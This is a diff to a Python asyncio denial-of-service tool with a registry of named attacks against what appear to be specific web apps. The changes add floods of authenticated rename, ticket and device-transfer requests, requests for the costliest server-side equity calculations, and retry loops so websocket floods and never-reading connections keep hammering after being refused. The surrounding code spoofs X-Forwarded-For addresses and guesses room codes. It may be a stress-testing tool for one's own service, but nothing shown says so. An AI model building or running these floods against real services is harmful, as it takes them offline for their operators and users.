@@ -22,6 +22,8 @@ WORKERS = 64
 SOCKETS = 16
 """Sockets of a flood of frames."""
 FRAMES_AT_ONCE = 200
+RETRY_SECONDS = 0.05
+"""Pause after a socket was refused, before the next try."""
 
 Stream = tuple[asyncio.StreamReader, asyncio.StreamWriter]
 
@@ -136,6 +138,28 @@ def many_addresses() -> Iterator[bytes]:
         yield head.replace(b"\r\n\r\n", f"\r\nX-Forwarded-For: 2001:db8::{number & 0xFFFF:x}\r\n\r\n".encode())
 
 
+def renames(token: str) -> Iterator[bytes]:
+    for number in itertools.count():
+        body = json.dumps({"name": f"Eve {number}"}).encode()
+        yield request("PATCH", "/api/v1/me", body, Content_Type="application/json", Authorization=f"Bearer {token}")
+
+
+def owned(path: str) -> Callable[[str], Iterator[bytes]]:
+    return lambda token: itertools.repeat(post(path, {}, Authorization=f"Bearer {token}"))
+
+
+def requests_as_somebody(make: Callable[[str], Iterator[bytes]]) -> Callable[[Target], Awaitable[None]]:
+    async def run(target: Target) -> None:
+        await flood(target, make(await token_of(target)))
+
+    return run
+
+
+def equities() -> Iterator[bytes]:
+    """The longest calculations that are to be had."""
+    return itertools.repeat(post("/api/v1/equity", {"hands": ["random"] * 9, "trials": 1_000_000}))
+
+
 def requests_of(make: Callable[[], Iterator[bytes]]) -> Callable[[Target], Awaitable[None]]:
     return lambda target: flood(target, make())
 
@@ -231,8 +255,9 @@ def pings_of(data: bytes) -> Callable[[Target], Awaitable[None]]:
                 path = f"/api/v1/tables/{target.code}/socket?view=0"
                 stream = await open_socket(target, path, Authorization=f"Bearer {token}")
                 if stream is None:
-                    return
-                await pour(target, stream, data * FRAMES_AT_ONCE)
+                    await asyncio.sleep(RETRY_SECONDS)
+                else:
+                    await pour(target, stream, data * FRAMES_AT_ONCE)
 
         await finish(target, *(work() for _ in range(SOCKETS)))
 
@@ -313,8 +338,9 @@ def dogker_flood_of(make: Callable[[dict[str, str]], bytes]) -> Callable[[Target
             while not target.over:
                 stream = await open_dogker(target)
                 if stream is None:
-                    return
-                await pour(target, stream, data)
+                    await asyncio.sleep(RETRY_SECONDS)
+                else:
+                    await pour(target, stream, data)
 
         await finish(target, *(work() for _ in range(SOCKETS)))
 
@@ -340,7 +366,8 @@ async def dogker_unread(target: Target) -> None:
         while not target.over:
             stream = await open_dogker(target, receive_buffer=4096)
             if stream is None:
-                return
+                await asyncio.sleep(RETRY_SECONDS)
+                continue
             _, writer = stream
             writer.write(join)
             writer.transport.pause_reading()  # type: ignore[attr-defined]
@@ -349,13 +376,17 @@ async def dogker_unread(target: Target) -> None:
                 writer.write(frame(TEXT, b"3"))
             target.counts["cut"] += not target.over
 
+    sites = [{"userId": user["_id"], "gameCode": user["code"], "numberSite": site} for site in (1, 2)]
+    data = b"".join(event("setPlayerSite", site) for site in sites * (FRAMES_AT_ONCE // 2))
+
     async def move() -> None:
-        stream = await open_dogker(target)
-        if stream is not None:
-            stream[1].write(join)
-            sites = [{"userId": user["_id"], "gameCode": user["code"], "numberSite": site} for site in (1, 2)]
-            data = b"".join(event("setPlayerSite", site) for site in sites * (FRAMES_AT_ONCE // 2))
-            await pour(target, stream, data)
+        while not target.over:
+            stream = await open_dogker(target)
+            if stream is None:
+                await asyncio.sleep(RETRY_SECONDS)
+            else:
+                stream[1].write(join)
+                await pour(target, stream, data)
 
     await finish(target, move(), *(idle() for _ in range(2 * SOCKETS)))
 
@@ -374,6 +405,10 @@ ATTACKS = {
     ),
     "games": Attack("requests", "games of Gateau", requests_of(games)),
     "guesses": Attack("requests", "codes guessed at Dogker's rooms", requests_of(lambda: guesses("/dogker/games/"))),
+    "renames": Attack("writes", "another name again and again", requests_as_somebody(renames)),
+    "tickets": Attack("writes", "tickets for sockets", requests_as_somebody(owned("/api/v1/me/ticket"))),
+    "transfers": Attack("writes", "links to other devices", requests_as_somebody(owned("/api/v1/me/transfer"))),
+    "equities": Attack("processor", "long calculations", requests_of(equities)),
     "unread": Attack("readers", "followed streams that never read", unread_streams),
     "origins": Attack(
         "bad input", "malformed origins",
